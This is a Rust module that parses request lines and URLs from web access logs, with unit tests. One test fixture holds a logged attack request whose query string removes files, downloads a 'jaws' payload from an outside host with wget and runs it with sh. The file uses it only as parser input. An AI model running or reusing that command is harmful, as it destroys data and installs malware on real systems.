//! Splitting the URL of the request field.

/// Parts of a request URL. Every part borrows from the input; nothing is decoded.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct UrlParts<'a> {
    /// `http`, `https`, ... (`None` for a relative URL such as `/x?y`).
    pub scheme: Option<&'a str>,
    /// Host name or IP; IPv6 brackets are stripped (`[::1]:443` gives `::1`).
    pub host: Option<&'a str>,
    /// `None` when absent or not a valid port (`http://host:80-`).
    pub port: Option<u16>,
    /// From the first `/` after the host up to `?`: `/` for `http://h:80/`,
    /// `None` for `https://example.com`.
    pub path: Option<&'a str>,
    /// After the first `?`, without it (`Some("")` for a trailing `?`).
    pub query: Option<&'a str>,
}

/// Splits `scheme://host:port/path?query` or a relative `/path?query`.
/// Never fails: unparseable parts are `None`.
pub fn split_url(url: &str) -> UrlParts<'_> {
    let (before_query, query) = split_query(url);
    let mut parts = UrlParts {
        query,
        ..UrlParts::default()
    };
    match split_scheme(before_query) {
        Some((scheme, after)) => {
            parts.scheme = Some(scheme);
            let (authority, path) = split_path(after);
            let (host, port) = split_authority(authority);
            parts.host = host;
            parts.port = port;
            parts.path = path;
        }
        None => parts.path = relative_path(before_query),
    }
    parts
}

/// `split_url(url).path`, without reading the host and port: what the endpoint of every
/// request needs.
pub fn url_path(url: &str) -> Option<&str> {
    let (before_query, _) = split_query(url);
    match split_scheme(before_query) {
        Some((_, after)) => split_path(after).1,
        None => relative_path(before_query),
    }
}

/// The URL before its first `?`, and what follows it.
fn split_query(url: &str) -> (&str, Option<&str>) {
    match memchr::memchr(b'?', url.as_bytes()) {
        Some(q) => (&url[..q], Some(&url[q + 1..])),
        None => (url, None),
    }
}

/// `scheme://rest` with a valid scheme: (scheme, rest).
fn split_scheme(before_query: &str) -> Option<(&str, &str)> {
    // only the first ':' can end a scheme (a scheme holds no ':'), so one byte search
    // instead of a substring search on every request
    let idx = memchr::memchr(b':', before_query.as_bytes())
        .filter(|&i| before_query.as_bytes()[i..].starts_with(b"://"))?;
    let scheme = &before_query[..idx];
    let valid = !scheme.is_empty()
        && scheme
            .bytes()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'-' | b'.'));
    valid.then(|| (scheme, &before_query[idx + 3..]))
}

/// After `scheme://`: the authority, and the path from its first `/` (None without one).
fn split_path(after: &str) -> (&str, Option<&str>) {
    match memchr::memchr(b'/', after.as_bytes()) {
        Some(p) => (&after[..p], Some(&after[p..])),
        None => (after, None),
    }
}

/// A URL without a scheme (or an odd one, like `*` or `host:443` for CONNECT): all of it is
/// the path; `-` and empty are none.
fn relative_path(before_query: &str) -> Option<&str> {
    (!before_query.is_empty() && before_query != "-").then_some(before_query)
}

/// `host`, `host:port`, `[v6]`, `[v6]:port`; drops userinfo (`user@`).
fn split_authority(authority: &str) -> (Option<&str>, Option<u16>) {
    let b = authority.as_bytes();
    let authority = memchr::memrchr(b'@', b).map_or(authority, |i| &authority[i + 1..]);
    if let Some(rest) = authority.strip_prefix('[') {
        return match rest.split_once(']') {
            Some((host, after)) => (
                (!host.is_empty()).then_some(host),
                after.strip_prefix(':').and_then(port),
            ),
            None => ((!rest.is_empty()).then_some(rest), None),
        };
    }
    match memchr::memrchr(b':', authority.as_bytes()) {
        Some(i) => {
            let (host, p) = (&authority[..i], &authority[i + 1..]);
            ((!host.is_empty()).then_some(host), port(p))
        }
        None => ((!authority.is_empty()).then_some(authority), None),
    }
}

fn port(s: &str) -> Option<u16> {
    if s.is_empty() || s.len() > 5 || !s.bytes().all(|c| c.is_ascii_digit()) {
        return None;
    }
    s.parse().ok()
}

/// Splits the request on its first and last space (after trimming spaces):
/// `METHOD URL PROTOCOL`, where the URL may contain spaces and the protocol
/// may be missing (`"- http://host:80- "`). `-` and empty parts are None.
pub fn split_request(request: &str) -> (Option<&str>, Option<&str>, Option<&str>) {
    let r = super::trim_spaces(request);
    // the memchr crate's searches: str::split_once's cost more than the split on every line
    match memchr::memchr(b' ', r.as_bytes()).map(|i| around(r, i)) {
        None => (nonempty(r), None, None),
        Some((method, rest)) => {
            let rest = rest.trim_start_matches(' ');
            match memchr::memrchr(b' ', rest.as_bytes()).map(|i| around(rest, i)) {
                None => (nonempty(method), nonempty(rest), None),
                Some((url, protocol)) => (
                    nonempty(method),
                    nonempty(url.trim_end_matches(' ')),
                    nonempty(protocol),
                ),
            }
        }
    }
}

/// `s` around the byte at `i` (which is ASCII).
fn around(s: &str, i: usize) -> (&str, &str) {
    (&s[..i], &s[i + 1..])
}

fn nonempty(s: &str) -> Option<&str> {
    // by length and byte: `s != "-"` became a call to memcmp on every request
    let dash = s.len() == 1 && s.as_bytes()[0] == b'-';
    (!s.is_empty() && !dash).then_some(s)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn url_path_is_split_urls_path() {
        for url in [
            "",
            "-",
            "*",
            "/",
            "/a/b?c=d",
            "?x",
            "https://h:443/p/1?q",
            "https://h:443",
            "https://h:443?x=/y",
            "http://[::1]:80/x",
            "h:443",
            "://x/y",
            "a b://h/p",
            "http://u@h/p",
            "HTTP+x.y-z://h/p?",
            "http:/h/p",
            "- http://h:80-",
            "ftp://é/ü?",
        ] {
            assert_eq!(url_path(url), split_url(url).path, "{url:?}");
        }
    }

    fn parts<'a>(
        scheme: Option<&'a str>,
        host: Option<&'a str>,
        port: Option<u16>,
        path: Option<&'a str>,
        query: Option<&'a str>,
    ) -> UrlParts<'a> {
        UrlParts {
            scheme,
            host,
            port,
            path,
            query,
        }
    }

    #[test]
    fn absolute() {
        assert_eq!(
            split_url("http://www.example.com:80/"),
            parts(
                Some("http"),
                Some("www.example.com"),
                Some(80),
                Some("/"),
                None
            )
        );
        assert_eq!(
            split_url("https://test.domain.com:443/api/deposits/transactions:search?detailsLevel=FULL&offset=0&limit=50"),
            parts(
                Some("https"),
                Some("test.domain.com"),
                Some(443),
                Some("/api/deposits/transactions:search"),
                Some("detailsLevel=FULL&offset=0&limit=50")
            )
        );
        assert_eq!(
            split_url("https://example.com"),
            parts(Some("https"), Some("example.com"), None, None, None)
        );
        assert_eq!(
            split_url("https://redirect.example.com?key1=value1"),
            parts(
                Some("https"),
                Some("redirect.example.com"),
                None,
                None,
                Some("key1=value1")
            )
        );
        // SpaceInUri (sample line 38), same split as elastic/integrations.
        assert_eq!(
            split_url(
                "http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws"
            ),
            parts(
                Some("http"),
                Some("127.0.0.1"),
                Some(80),
                Some("/shell"),
                Some("cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws")
            )
        );
        assert_eq!(
            split_url("http://h:80/x?"),
            parts(Some("http"), Some("h"), Some(80), Some("/x"), Some(""))
        );
    }

    #[test]
    fn ipv6_and_odd_hosts() {
        assert_eq!(
            split_url("https://[::1]:443/a"),
            parts(Some("https"), Some("::1"), Some(443), Some("/a"), None)
        );
        assert_eq!(
            split_url("http://[2001:db8::1]/"),
            parts(Some("http"), Some("2001:db8::1"), None, Some("/"), None)
        );
        // Malformed request URL as logged for 400s: port is not a number.
        assert_eq!(
            split_url("http://example.com:8080-"),
            parts(Some("http"), Some("example.com"), None, None, None)
        );
        assert_eq!(
            split_url("http://internal.example.com:80-/"),
            parts(
                Some("http"),
                Some("internal.example.com"),
                None,
                Some("/"),
                None
            )
        );
        assert_eq!(
            split_url("http://user:pw@h:8080/p"),
            parts(Some("http"), Some("h"), Some(8080), Some("/p"), None)
        );
    }

    #[test]
    fn relative_and_garbage() {
        assert_eq!(
            split_url("/x?y"),
            parts(None, None, None, Some("/x"), Some("y"))
        );
        assert_eq!(split_url("/"), parts(None, None, None, Some("/"), None));
        assert_eq!(split_url(""), UrlParts::default());
        assert_eq!(split_url("-"), UrlParts::default());
        assert_eq!(split_url("?q"), parts(None, None, None, None, Some("q")));
        // "://" inside the query or path is not a scheme.
        assert_eq!(
            split_url("/r?u=http://x/"),
            parts(None, None, None, Some("/r"), Some("u=http://x/"))
        );
        assert_eq!(
            split_url("/a/http://x"),
            parts(None, None, None, Some("/a/http://x"), None)
        );
        for s in [
            "://",
            "[",
            "http://[",
            "http://[::1",
            "http://:",
            "é://é",
            "http://h:99999/",
        ] {
            let _ = split_url(s);
        }
        assert_eq!(split_url("http://h:99999/").port, None);
    }
}
